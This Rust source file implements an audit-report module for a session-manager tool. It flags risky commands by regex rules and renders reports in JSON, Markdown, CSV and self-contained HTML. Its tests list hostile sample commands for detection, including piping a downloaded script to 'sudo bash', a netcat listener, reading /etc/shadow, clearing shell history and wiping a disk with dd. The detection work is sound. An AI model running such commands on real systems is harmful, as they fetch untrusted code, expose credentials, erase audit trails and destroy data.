@@ -1,0 +1,980 @@
+//! Audit reports: who accessed what, tunnels, risky commands and evidence gaps over a period.
+//!
+//! [`build`] turns session records and their texts into a [`Report`]; it reads no clock, so
+//! the same data and period give the same report, byte for byte, in every format:
+//! [`to_json`], [`to_markdown`], [`to_csv`] and [`to_html`] (one self-contained file).
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fmt::Write;
+
+use serde::{Deserialize, Serialize};
+use time::{OffsetDateTime, UtcOffset, Weekday};
+
+use crate::correlate::{Flag, Kind, SessionRecord};
+use crate::ingest::SessionText;
+use crate::time::{parse_time, rfc3339};
+
+/// The default rules, shipped with the tool.
+pub const DEFAULT_RULES: &str = include_str!("../rules/default.toml");
+
+#[derive(Clone, Debug, Deserialize, Serialize, PartialEq)]
+pub struct Rule {
+    pub id: String,
+    pub pattern: String,
+    pub severity: String,
+    pub description: String,
+    #[serde(default = "yes")]
+    pub enabled: bool,
+}
+
+fn yes() -> bool {
+    true
+}
+
+#[derive(Deserialize)]
+struct RuleFile {
+    #[serde(default)]
+    rule: Vec<Rule>,
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum RuleError {
+    #[error("{file}: {source}")]
+    Toml {
+        file: String,
+        source: toml::de::Error,
+    },
+    #[error("{file}: rule {id}: pattern: {source}")]
+    Pattern {
+        file: String,
+        id: String,
+        source: regex::Error,
+    },
+    #[error("{file}: rule {id}: severity must be low, medium, high or critical, not {severity:?}")]
+    Severity {
+        file: String,
+        id: String,
+        severity: String,
+    },
+}
+
+/// Compiled rules: the defaults, with a user's file laid over them by id.
+#[derive(Debug)]
+pub struct Rules {
+    rules: Vec<(Rule, regex::Regex)>,
+}
+
+impl Rules {
+    pub fn load(user: Option<(&str, &str)>) -> Result<Rules, RuleError> {
+        let mut by_id: BTreeMap<String, (usize, Rule)> = BTreeMap::new();
+        let mut order = 0;
+        for (file, text) in std::iter::once(("default rules", DEFAULT_RULES)).chain(user) {
+            let parsed: RuleFile = toml::from_str(text).map_err(|source| RuleError::Toml {
+                file: file.to_owned(),
+                source,
+            })?;
+            for r in parsed.rule {
+                if !["low", "medium", "high", "critical"].contains(&r.severity.as_str()) {
+                    return Err(RuleError::Severity {
+                        file: file.into(),
+                        id: r.id,
+                        severity: r.severity,
+                    });
+                }
+                let pos = by_id.get(&r.id).map_or_else(
+                    || {
+                        order += 1;
+                        order
+                    },
+                    |e| e.0,
+                );
+                by_id.insert(r.id.clone(), (pos, r));
+            }
+            let _ = file;
+        }
+        let mut rules: Vec<(usize, Rule)> =
+            by_id.into_values().filter(|(_, r)| r.enabled).collect();
+        rules.sort_by_key(|(pos, _)| *pos);
+        let rules = rules
+            .into_iter()
+            .map(|(_, r)| {
+                let re = regex::Regex::new(&r.pattern).map_err(|source| RuleError::Pattern {
+                    file: "rules".into(),
+                    id: r.id.clone(),
+                    source,
+                })?;
+                Ok((r, re))
+            })
+            .collect::<Result<_, RuleError>>()?;
+        Ok(Rules { rules })
+    }
+
+    pub fn matching(&self, command: &str) -> Vec<&Rule> {
+        self.rules
+            .iter()
+            .filter(|(_, re)| re.is_match(command))
+            .map(|(r, _)| r)
+            .collect()
+    }
+}
+
+/// When people are expected to work.
+#[derive(Clone, Debug, Serialize)]
+pub struct WorkingHours {
+    /// offset of the report's time zone
+    pub offset: String,
+    pub start_hour: u8,
+    pub end_hour: u8,
+    pub days: Vec<String>,
+}
+
+pub struct ReportOptions {
+    pub since: OffsetDateTime,
+    pub until: OffsetDateTime,
+    pub offset: UtcOffset,
+    pub start_hour: u8,
+    pub end_hour: u8,
+    pub days: Vec<Weekday>,
+}
+
+#[derive(Clone, Debug, Default, Serialize)]
+pub struct Summary {
+    pub sessions: usize,
+    pub principals: usize,
+    pub targets: usize,
+    pub tunnels: usize,
+    pub denied_attempts: usize,
+    pub evidence_gaps: usize,
+    pub risky_commands: usize,
+    pub outside_working_hours: usize,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct Activity {
+    /// principal or target
+    pub name: String,
+    pub sessions: usize,
+    pub total_seconds: i64,
+    pub longest_seconds: i64,
+    pub longest_session: Option<String>,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct NewAccess {
+    pub principal: String,
+    pub target: String,
+    pub first_session: String,
+    pub start: String,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct TunnelRow {
+    pub start: String,
+    pub principal: String,
+    pub source_ip: String,
+    pub target: String,
+    pub host: String,
+    pub port: String,
+    pub local_port: String,
+    pub duration_seconds: Option<i64>,
+    pub session_id: String,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct OffHours {
+    pub start: String,
+    /// local time in the report's zone
+    pub local: String,
+    pub principal: String,
+    pub target: String,
+    pub session_id: String,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct RiskyCommand {
+    pub start: String,
+    pub principal: String,
+    pub target: String,
+    pub rule: String,
+    pub severity: String,
+    pub command: String,
+    pub line: u64,
+    pub session_id: String,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct Gap {
+    pub start: String,
+    pub gap: String,
+    pub principal: String,
+    pub target: String,
+    /// the session id, or `(ErrorCode)` for a denied attempt
+    pub session_id: String,
+}
+
+#[derive(Clone, Debug, Serialize)]
+pub struct Report {
+    pub since: String,
+    pub until: String,
+    pub working_hours: WorkingHours,
+    pub summary: Summary,
+    pub per_principal: Vec<Activity>,
+    pub per_target: Vec<Activity>,
+    pub new_access: Vec<NewAccess>,
+    pub tunnels: Vec<TunnelRow>,
+    pub outside_working_hours: Vec<OffHours>,
+    pub risky_commands: Vec<RiskyCommand>,
+    pub evidence_gaps: Vec<Gap>,
+    /// sessions per day (UTC date) across the period
+    pub per_day: Vec<(String, usize)>,
+    /// for the timeline: (principal, start, end or start, session id)
+    pub timeline: Vec<(String, String, String, String)>,
+}
+
+fn s(o: &Option<String>) -> String {
+    o.clone().unwrap_or_else(|| "-".into())
+}
+
+fn name<T: Serialize>(v: &T) -> String {
+    serde_json::to_value(v)
+        .ok()
+        .and_then(|v| v.as_str().map(str::to_owned))
+        .unwrap_or_default()
+}
+
+/// Build the report of sessions started in `[since, until)`. `text` gives a session's
+/// rendered text (for its commands).
+pub fn build(
+    records: &[SessionRecord],
+    text: &dyn Fn(&str) -> Option<SessionText>,
+    rules: &Rules,
+    o: &ReportOptions,
+) -> Report {
+    let started = |r: &SessionRecord| r.start.as_deref().and_then(parse_time);
+    let in_period = |r: &SessionRecord| started(r).is_some_and(|t| t >= o.since && t < o.until);
+    let mut sel: Vec<&SessionRecord> = records.iter().filter(|r| in_period(r)).collect();
+    sel.sort_by(|a, b| {
+        (&a.start, &a.session_id, &a.principal).cmp(&(&b.start, &b.session_id, &b.principal))
+    });
+    let sessions: Vec<&SessionRecord> = sel
+        .iter()
+        .copied()
+        .filter(|r| r.session_id.is_some())
+        .collect();
+
+    let activity = |key: &dyn Fn(&SessionRecord) -> String| {
+        let mut m: BTreeMap<String, Activity> = BTreeMap::new();
+        for r in &sessions {
+            let a = m.entry(key(r)).or_insert_with_key(|k| Activity {
+                name: k.clone(),
+                sessions: 0,
+                total_seconds: 0,
+                longest_seconds: 0,
+                longest_session: None,
+            });
+            a.sessions += 1;
+            let d = r.duration_seconds.unwrap_or(0);
+            a.total_seconds += d;
+            if d > a.longest_seconds || a.longest_session.is_none() {
+                a.longest_seconds = a.longest_seconds.max(d);
+                if d >= a.longest_seconds {
+                    a.longest_session = r.session_id.clone();
+                }
+            }
+        }
+        let mut v: Vec<Activity> = m.into_values().collect();
+        v.sort_by(|a, b| {
+            b.sessions
+                .cmp(&a.sessions)
+                .then_with(|| a.name.cmp(&b.name))
+        });
+        v
+    };
+    let per_principal = activity(&|r| s(&r.principal));
+    let per_target = activity(&|r| s(&r.target));
+
+    // first session of each principal on each target, over all history
+    let mut first: BTreeMap<(String, String), (String, String)> = BTreeMap::new();
+    for r in records.iter().filter(|r| r.session_id.is_some()) {
+        let (Some(p), Some(t), Some(st)) = (&r.principal, &r.target, &r.start) else {
+            continue;
+        };
+        let e = first
+            .entry((p.clone(), t.clone()))
+            .or_insert((st.clone(), s(&r.session_id)));
+        if (st, &s(&r.session_id)) < (&e.0, &e.1) {
+            *e = (st.clone(), s(&r.session_id));
+        }
+    }
+    let new_access: Vec<NewAccess> = first
+        .into_iter()
+        .filter(|(_, (st, _))| parse_time(st).is_some_and(|t| t >= o.since && t < o.until))
+        .map(|((p, t), (st, sid))| NewAccess {
+            principal: p,
+            target: t,
+            first_session: sid,
+            start: st,
+        })
+        .collect();
+
+    let tunnels: Vec<TunnelRow> = sessions
+        .iter()
+        .filter(|r| {
+            matches!(
+                r.kind,
+                Kind::PortForward | Kind::PortForwardRemote | Kind::Ssh
+            )
+        })
+        .map(|r| {
+            let t = r.tunnel.clone().unwrap_or_default();
+            TunnelRow {
+                start: s(&r.start),
+                principal: s(&r.principal),
+                source_ip: s(&r.source_ip),
+                target: s(&r.target),
+                host: t.host.unwrap_or_else(|| "(target)".into()),
+                port: t.port.map_or("-".into(), |p| p.to_string()),
+                local_port: t.local_port.map_or("-".into(), |p| p.to_string()),
+                duration_seconds: r.duration_seconds,
+                session_id: s(&r.session_id),
+            }
+        })
+        .collect();
+
+    let outside_working_hours: Vec<OffHours> = sessions
+        .iter()
+        .filter_map(|r| {
+            let local = started(r)?.to_offset(o.offset);
+            let inside = o.days.contains(&local.weekday())
+                && (o.start_hour..o.end_hour).contains(&local.hour());
+            (!inside).then(|| OffHours {
+                start: s(&r.start),
+                local: format!(
+                    "{} {:02}:{:02}",
+                    local.weekday(),
+                    local.hour(),
+                    local.minute()
+                ),
+                principal: s(&r.principal),
+                target: s(&r.target),
+                session_id: s(&r.session_id),
+            })
+        })
+        .collect();
+
+    let mut risky_commands = Vec::new();
+    for r in &sessions {
+        let Some(id) = &r.session_id else { continue };
+        let Some(t) = text(id) else { continue };
+        for (line, cmd) in &t.commands {
+            for rule in rules.matching(cmd) {
+                risky_commands.push(RiskyCommand {
+                    start: s(&r.start),
+                    principal: s(&r.principal),
+                    target: s(&r.target),
+                    rule: rule.id.clone(),
+                    severity: rule.severity.clone(),
+                    command: cmd.clone(),
+                    line: *line,
+                    session_id: id.clone(),
+                });
+            }
+        }
+    }
+
+    let gap_flags = [
+        Flag::TranscriptMissing,
+        Flag::NoStartEvent,
+        Flag::Denied,
+        Flag::Open,
+    ];
+    let evidence_gaps: Vec<Gap> = sel
+        .iter()
+        .filter(|r| r.flags.iter().any(|f| gap_flags.contains(f)))
+        .map(|r| Gap {
+            start: s(&r.start),
+            gap: r
+                .flags
+                .iter()
+                .filter(|f| gap_flags.contains(f))
+                .map(name)
+                .collect::<Vec<_>>()
+                .join(","),
+            principal: s(&r.principal),
+            target: s(&r.target),
+            session_id: r
+                .session_id
+                .clone()
+                .unwrap_or_else(|| format!("({})", s(&r.error_code))),
+        })
+        .collect();
+
+    let mut per_day: BTreeMap<String, usize> = BTreeMap::new();
+    let mut day = o.since.date();
+    while day < o.until.date() || (day == o.until.date() && o.until.time() != time::Time::MIDNIGHT)
+    {
+        per_day.insert(day.to_string(), 0);
+        match day.next_day() {
+            Some(d) if per_day.len() < 3660 => day = d,
+            _ => break,
+        }
+    }
+    for r in &sessions {
+        if let Some(t) = started(r) {
+            *per_day.entry(t.date().to_string()).or_default() += 1;
+        }
+    }
+    let timeline = sessions
+        .iter()
+        .map(|r| {
+            (
+                s(&r.principal),
+                s(&r.start),
+                r.end.clone().unwrap_or_else(|| s(&r.start)),
+                s(&r.session_id),
+            )
+        })
+        .collect();
+
+    let principals: BTreeSet<&str> = sessions
+        .iter()
+        .filter_map(|r| r.principal.as_deref())
+        .collect();
+    let targets: BTreeSet<&str> = sessions
+        .iter()
+        .filter_map(|r| r.target.as_deref())
+        .collect();
+    let summary = Summary {
+        sessions: sessions.len(),
+        principals: principals.len(),
+        targets: targets.len(),
+        tunnels: tunnels.len(),
+        denied_attempts: sel
+            .iter()
+            .filter(|r| r.flags.contains(&Flag::Denied))
+            .count(),
+        evidence_gaps: evidence_gaps.len(),
+        risky_commands: risky_commands.len(),
+        outside_working_hours: outside_working_hours.len(),
+    };
+    let off = o.offset;
+    Report {
+        since: rfc3339(o.since),
+        until: rfc3339(o.until),
+        working_hours: WorkingHours {
+            offset: format!(
+                "{:+03}:{:02}",
+                off.whole_hours(),
+                off.minutes_past_hour().abs()
+            ),
+            start_hour: o.start_hour,
+            end_hour: o.end_hour,
+            days: o.days.iter().map(|d| d.to_string()).collect(),
+        },
+        summary,
+        per_principal,
+        per_target,
+        new_access,
+        tunnels,
+        outside_working_hours,
+        risky_commands,
+        evidence_gaps,
+        per_day: per_day.into_iter().collect(),
+        timeline,
+    }
+}
+
+// ---- renderings ----------------------------------------------------------------------------
+
+pub fn to_json(r: &Report) -> String {
+    serde_json::to_string_pretty(r).expect("report serialises") + "\n"
+}
+
+fn dur(s: Option<i64>) -> String {
+    match s {
+        None => "-".into(),
+        Some(s) if s < 3600 => format!("{}m{:02}s", s / 60, s % 60),
+        Some(s) => format!("{}h{:02}m", s / 3600, (s % 3600) / 60),
+    }
+}
+
+/// The report's tables as (title, header, rows): one source for Markdown, CSV and HTML.
+/// A titled table: (title, header, rows).
+type Table = (&'static str, Vec<&'static str>, Vec<Vec<String>>);
+
+fn tables(r: &Report) -> Vec<Table> {
+    let act = |v: &[Activity]| -> Vec<Vec<String>> {
+        v.iter()
+            .map(|a| {
+                vec![
+                    a.name.clone(),
+                    a.sessions.to_string(),
+                    dur(Some(a.total_seconds)),
+                    dur(Some(a.longest_seconds)),
+                    a.longest_session.clone().unwrap_or_default(),
+                ]
+            })
+            .collect()
+    };
+    vec![
+        (
+            "Sessions per principal",
+            vec![
+                "principal",
+                "sessions",
+                "total",
+                "longest",
+                "longest session",
+            ],
+            act(&r.per_principal),
+        ),
+        (
+            "Sessions per target",
+            vec!["target", "sessions", "total", "longest", "longest session"],
+            act(&r.per_target),
+        ),
+        (
+            "New access",
+            vec!["principal", "target", "first session", "start"],
+            r.new_access
+                .iter()
+                .map(|n| {
+                    vec![
+                        n.principal.clone(),
+                        n.target.clone(),
+                        n.first_session.clone(),
+                        n.start.clone(),
+                    ]
+                })
+                .collect(),
+        ),
+        (
+            "Tunnels",
+            vec![
+                "start",
+                "principal",
+                "source ip",
+                "via target",
+                "to host",
+                "port",
+                "local port",
+                "duration",
+                "session",
+            ],
+            r.tunnels
+                .iter()
+                .map(|t| {
+                    vec![
+                        t.start.clone(),
+                        t.principal.clone(),
+                        t.source_ip.clone(),
+                        t.target.clone(),
+                        t.host.clone(),
+                        t.port.clone(),
+                        t.local_port.clone(),
+                        dur(t.duration_seconds),
+                        t.session_id.clone(),
+                    ]
+                })
+                .collect(),
+        ),
+        (
+            "Outside working hours",
+            vec!["start", "local time", "principal", "target", "session"],
+            r.outside_working_hours
+                .iter()
+                .map(|x| {
+                    vec![
+                        x.start.clone(),
+                        x.local.clone(),
+                        x.principal.clone(),
+                        x.target.clone(),
+                        x.session_id.clone(),
+                    ]
+                })
+                .collect(),
+        ),
+        (
+            "Risky commands",
+            vec![
+                "start",
+                "severity",
+                "rule",
+                "principal",
+                "target",
+                "command",
+                "line",
+                "session",
+            ],
+            r.risky_commands
+                .iter()
+                .map(|c| {
+                    vec![
+                        c.start.clone(),
+                        c.severity.clone(),
+                        c.rule.clone(),
+                        c.principal.clone(),
+                        c.target.clone(),
+                        c.command.clone(),
+                        c.line.to_string(),
+                        c.session_id.clone(),
+                    ]
+                })
+                .collect(),
+        ),
+        (
+            "Evidence gaps",
+            vec!["start", "gap", "principal", "target", "session"],
+            r.evidence_gaps
+                .iter()
+                .map(|g| {
+                    vec![
+                        g.start.clone(),
+                        g.gap.clone(),
+                        g.principal.clone(),
+                        g.target.clone(),
+                        g.session_id.clone(),
+                    ]
+                })
+                .collect(),
+        ),
+    ]
+}
+
+fn summary_rows(r: &Report) -> Vec<(&'static str, usize)> {
+    let s = &r.summary;
+    vec![
+        ("sessions", s.sessions),
+        ("principals", s.principals),
+        ("targets", s.targets),
+        ("tunnels", s.tunnels),
+        ("denied attempts", s.denied_attempts),
+        ("evidence gaps", s.evidence_gaps),
+        ("risky commands", s.risky_commands),
+        ("outside working hours", s.outside_working_hours),
+    ]
+}
+
+/// Transcript text in a report cell: controls made visible (escape.rs), and Markdown's
+/// table syntax kept out.
+fn md_cell(s: &str) -> String {
+    crate::escape::escape_text(s)
+        .replace('\\', "\\\\")
+        .replace('|', "\\|")
+        .replace('`', "\\`")
+}
+
+pub fn to_markdown(r: &Report) -> String {
+    let mut out = String::new();
+    let _ = writeln!(
+        out,
+        "# Session Manager audit report\n\n{} to {} (UTC; working hours {}-{} {} on {})\n",
+        r.since,
+        r.until,
+        r.working_hours.start_hour,
+        r.working_hours.end_hour,
+        r.working_hours.offset,
+        r.working_hours.days.join(", ")
+    );
+    let _ = writeln!(out, "## Summary\n\n| | |\n|---|---:|");
+    for (k, v) in summary_rows(r) {
+        let _ = writeln!(out, "| {k} | {v} |");
+    }
+    for (title, header, rows) in tables(r) {
+        let _ = writeln!(out, "\n## {title}\n");
+        if rows.is_empty() {
+            let _ = writeln!(out, "None.");
+            continue;
+        }
+        let _ = writeln!(out, "| {} |", header.join(" | "));
+        let _ = writeln!(out, "|{}", "---|".repeat(header.len()));
+        for row in rows {
+            let cells: Vec<String> = row.iter().map(|c| md_cell(c)).collect();
+            let _ = writeln!(out, "| {} |", cells.join(" | "));
+        }
+    }
+    out
+}
+
+fn csv_field(s: &str) -> String {
+    let s = crate::escape::escape_text(s);
+    // a leading = + - @ would be a formula in a spreadsheet
+    let s = if s.starts_with(['=', '+', '-', '@']) {
+        format!("'{s}")
+    } else {
+        s.into_owned()
+    };
+    if s.contains([',', '"', '\n']) {
+        format!("\"{}\"", s.replace('"', "\"\""))
+    } else {
+        s
+    }
+}
+
+/// One CSV file with a `table` column first: `table,<columns of that table...>`.
+pub fn to_csv(r: &Report) -> String {
+    let mut out = String::from("table,field,value\n");
+    for (k, v) in summary_rows(r) {
+        let _ = writeln!(out, "summary,{},{}", csv_field(k), v);
+    }
+    for (title, header, rows) in tables(r) {
+        let t = title.to_lowercase().replace(' ', "_");
+        let _ = writeln!(
+            out,
+            "{t},{}",
+            header
+                .iter()
+                .map(|h| csv_field(h))
+                .collect::<Vec<_>>()
+                .join(",")
+        );
+        for row in rows {
+            let _ = writeln!(
+                out,
+                "{t},{}",
+                row.iter()
+                    .map(|c| csv_field(c))
+                    .collect::<Vec<_>>()
+                    .join(",")
+            );
+        }
+    }
+    out
+}
+
+fn html_escape(s: &str) -> String {
+    crate::escape::escape_text(s)
+        .replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+        .replace('"', "&quot;")
+        .replace('\'', "&#39;")
+}
+
+fn bar_chart(per_day: &[(String, usize)]) -> String {
+    let max = per_day.iter().map(|d| d.1).max().unwrap_or(0).max(1);
+    let n = per_day.len().max(1);
+    let (w, h) = (760.0_f64, 160.0_f64);
+    let bw = (w - 40.0) / n as f64;
+    let mut svg = format!(
+        r#"<svg viewBox="0 0 {w} {}" role="img" aria-label="sessions per day"><title>Sessions per day</title>"#,
+        h + 30.0
+    );
+    for (i, (day, c)) in per_day.iter().enumerate() {
+        let bh = (*c as f64 / max as f64) * (h - 20.0);
+        let x = 30.0 + i as f64 * bw;
+        let _ = write!(
+            svg,
+            r#"<rect class="bar" x="{x:.1}" y="{:.1}" width="{:.1}" height="{bh:.1}"><title>{} {c}</title></rect>"#,
+            h - bh,
+            (bw - 2.0).max(1.0),
+            html_escape(day)
+        );
+        if n <= 31 || i % (n / 15 + 1) == 0 {
+            let _ = write!(
+                svg,
+                r#"<text x="{:.1}" y="{:.1}" class="tick">{}</text>"#,
+                x + bw / 2.0,
+                h + 14.0,
+                html_escape(&day[5..])
+            );
+        }
+    }
+    let _ = write!(
+        svg,
+        r#"<text x="2" y="12" class="tick">{max}</text><line x1="28" y1="{h}" x2="{w}" y2="{h}" class="axis"/></svg>"#
+    );
+    svg
+}
+
+fn timeline(r: &Report) -> String {
+    let (Some(t0), Some(t1)) = (parse_time(&r.since), parse_time(&r.until)) else {
+        return String::new();
+    };
+    let span = (t1 - t0).whole_seconds().max(1) as f64;
+    let principals: BTreeSet<&str> = r.timeline.iter().map(|t| t.0.as_str()).collect();
+    let rows: Vec<&str> = principals.into_iter().collect();
+    let (left, w, rh) = (170.0_f64, 760.0_f64, 18.0_f64);
+    let h = rows.len() as f64 * rh + 24.0;
+    let mut svg = format!(
+        r#"<svg viewBox="0 0 {w} {h}" role="img" aria-label="sessions per principal over time"><title>Sessions per principal</title>"#
+    );
+    for (i, p) in rows.iter().enumerate() {
+        let y = i as f64 * rh;
+        let _ = write!(
+            svg,
+            r#"<text x="0" y="{:.1}" class="label">{}</text><line x1="{left}" y1="{:.1}" x2="{w}" y2="{:.1}" class="grid"/>"#,
+            y + 13.0,
+            html_escape(&p.chars().take(26).collect::<String>()),
+            y + rh - 1.0,
+            y + rh - 1.0
+        );
+    }
+    for (p, st, en, sid) in &r.timeline {
+        let (Some(a), Some(b)) = (parse_time(st), parse_time(en)) else {
+            continue;
+        };
+        let i = rows.iter().position(|x| x == p).unwrap_or(0);
+        let x = left + (a - t0).whole_seconds() as f64 / span * (w - left);
+        let x2 = left + (b.min(t1) - t0).whole_seconds() as f64 / span * (w - left);
+        let _ = write!(
+            svg,
+            r#"<rect class="span" x="{x:.1}" y="{:.1}" width="{:.1}" height="{:.1}"><title>{} {} {}</title></rect>"#,
+            i as f64 * rh + 3.0,
+            (x2 - x).max(2.0),
+            rh - 7.0,
+            html_escape(p),
+            html_escape(st),
+            html_escape(sid)
+        );
+    }
+    let _ = write!(
+        svg,
+        r#"<text x="{left}" y="{:.1}" class="tick">{}</text><text x="{w}" y="{:.1}" class="tick" text-anchor="end">{}</text></svg>"#,
+        h - 4.0,
+        html_escape(&r.since),
+        h - 4.0,
+        html_escape(&r.until)
+    );
+    svg
+}
+
+const CSS: &str = "body{font:14px/1.4 system-ui,-apple-system,Segoe UI,Helvetica,Arial,sans-serif;margin:2em auto;max-width:1100px;padding:0 1em;color:#1b1f24}\
+h1{font-size:1.6em;margin-bottom:.2em}h2{font-size:1.2em;margin-top:1.6em;border-bottom:1px solid #d0d7de;padding-bottom:.2em}\
+.period{color:#57606a}.cards{display:flex;flex-wrap:wrap;gap:.6em}.card{border:1px solid #d0d7de;border-radius:6px;padding:.5em .8em;min-width:8em}\
+.card b{display:block;font-size:1.5em}table{border-collapse:collapse;width:100%;font-size:13px}th,td{border:1px solid #d0d7de;padding:3px 6px;text-align:left;vertical-align:top}\
+th{background:#f6f8fa}td.cmd{font-family:ui-monospace,Menlo,Consolas,monospace;white-space:pre-wrap;word-break:break-all}\
+.sev-critical{color:#fff;background:#a40e26}.sev-high{background:#ffd8d3}.sev-medium{background:#fff1c2}.none{color:#57606a}\
+svg{width:100%;height:auto}.bar{fill:#0969da}.span{fill:#8250df}.tick,.label{font-size:10px;fill:#57606a}.axis,.grid{stroke:#d0d7de}\
+@media print{body{margin:0;max-width:none}h2{break-after:avoid}table,svg{break-inside:avoid}.card{border-color:#888}}";
+
+/// One self-contained HTML file: no script, font, image or stylesheet from anywhere else.
+pub fn to_html(r: &Report) -> String {
+    let mut out = String::new();
+    let _ = write!(out, "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><meta name=\"viewport\" content=\"width=device-width,initial-scale=1\"><title>Session Manager audit report {} to {}</title><style>{CSS}</style></head><body>\n", html_escape(&r.since), html_escape(&r.until));
+    let _ = writeln!(out, "<h1>Session Manager audit report</h1><p class=\"period\">{} to {} (UTC). Working hours {}:00-{}:00 {} on {}.</p>", html_escape(&r.since), html_escape(&r.until), r.working_hours.start_hour, r.working_hours.end_hour, html_escape(&r.working_hours.offset), html_escape(&r.working_hours.days.join(", ")));
+    out.push_str("<h2>Summary</h2><div class=\"cards\">");
+    for (k, v) in summary_rows(r) {
+        let _ = write!(out, "<div class=\"card\"><b>{v}</b>{k}</div>");
+    }
+    out.push_str("</div>\n<h2>Sessions per day</h2>");
+    out.push_str(&bar_chart(&r.per_day));
+    out.push_str("\n<h2>Timeline</h2>");
+    if r.timeline.is_empty() {
+        out.push_str("<p class=\"none\">No sessions.</p>");
+    } else {
+        out.push_str(&timeline(r));
+    }
+    for (title, header, rows) in tables(r) {
+        let _ = write!(out, "\n<h2>{title}</h2>");
+        if rows.is_empty() {
+            out.push_str("<p class=\"none\">None.</p>");
+            continue;
+        }
+        out.push_str("<table><thead><tr>");
+        for h in &header {
+            let _ = write!(out, "<th>{h}</th>");
+        }
+        out.push_str("</tr></thead><tbody>");
+        for row in rows {
+            let sev = if title == "Risky commands" {
+                format!(" class=\"sev-{}\"", html_escape(&row[1]))
+            } else {
+                String::new()
+            };
+            let _ = write!(out, "<tr{sev}>");
+            for (i, c) in row.iter().enumerate() {
+                let class = if title == "Risky commands" && i == 5 {
+                    " class=\"cmd\""
+                } else {
+                    ""
+                };
+                let _ = write!(out, "<td{class}>{}</td>", html_escape(c));
+            }
+            out.push_str("</tr>");
+        }
+        out.push_str("</tbody></table>");
+    }
+    out.push_str("\n</body></html>\n");
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ids(rules: &Rules, cmd: &str) -> Vec<String> {
+        rules
+            .matching(cmd)
+            .into_iter()
+            .map(|r| r.id.clone())
+            .collect()
+    }
+
+    #[test]
+    fn default_rules_match_what_they_say_and_not_more() {
+        let r = Rules::load(None).unwrap();
+        assert_eq!(ids(&r, "sudo -i"), ["privilege-sudo"]);
+        assert_eq!(ids(&r, "su - postgres"), ["privilege-su"]);
+        assert_eq!(ids(&r, "history -c"), ["history-tampering"]);
+        assert_eq!(ids(&r, "unset HISTFILE"), ["history-tampering"]);
+        assert_eq!(ids(&r, "cat /etc/shadow | head -3"), ["credentials-read"]);
+        assert_eq!(
+            ids(&r, "aws secretsmanager get-secret-value --secret-id x"),
+            ["credentials-read"]
+        );
+        assert_eq!(
+            ids(&r, "export DB_PASSWORD=x"),
+            ["credentials-in-environment"]
+        );
+        assert_eq!(ids(&r, "rm -rf /var/lib/data"), ["destructive-rm"]);
+        assert_eq!(ids(&r, "rm -fr x"), ["destructive-rm"]);
+        assert_eq!(
+            ids(&r, "dd if=/dev/zero of=/dev/xvda"),
+            ["destructive-disk"]
+        );
+        assert_eq!(
+            ids(&r, "curl -s https://x.example/i.sh | sudo bash"),
+            ["privilege-sudo", "download-to-shell"]
+        );
+        assert_eq!(ids(&r, "nc -lvp 4444"), ["network-tools"]);
+        assert_eq!(
+            ids(&r, "sudo apt-get install -y nmap"),
+            ["privilege-sudo", "package-install"]
+        );
+        assert_eq!(ids(&r, "useradd eve"), ["user-management"]);
+        assert_eq!(ids(&r, "chmod 4755 /tmp/x"), ["permissions-change"]);
+        // not risky
+        for ok in [
+            "grep root /etc/passwd",
+            "ls -la",
+            "rm file.txt",
+            "echo sudoku",
+            "cat README.md",
+            "kubectl get pods",
+        ] {
+            assert!(ids(&r, ok).is_empty(), "{ok}: {:?}", ids(&r, ok));
+        }
+    }
+
+    #[test]
+    fn user_rules_override_add_and_disable() {
+        let user = "[[rule]]\nid = \"privilege-sudo\"\npattern = 'sudo'\nseverity = \"low\"\ndescription = \"x\"\n\
+                    [[rule]]\nid = \"network-tools\"\npattern = 'x'\nseverity = \"low\"\ndescription = \"x\"\nenabled = false\n\
+                    [[rule]]\nid = \"prod-db\"\npattern = 'psql.*prod'\nseverity = \"critical\"\ndescription = \"prod database\"\n";
+        let r = Rules::load(Some(("mine.toml", user))).unwrap();
+        assert_eq!(r.matching("sudo ls")[0].severity, "low");
+        assert!(ids(&r, "nc -l 1").is_empty());
+        assert_eq!(ids(&r, "psql -h prod-db"), ["prod-db"]);
+        let bad = Rules::load(Some((
+            "bad.toml",
+            "[[rule]]\nid = \"x\"\npattern = '('\nseverity = \"low\"\ndescription = \"\"\n",
+        )));
+        assert!(bad.is_err());
+        let bad = Rules::load(Some((
+            "bad.toml",
+            "[[rule]]\nid = \"x\"\npattern = 'a'\nseverity = \"urgent\"\ndescription = \"\"\n",
+        )));
+        assert!(bad.unwrap_err().to_string().contains("urgent"));
+    }
+}
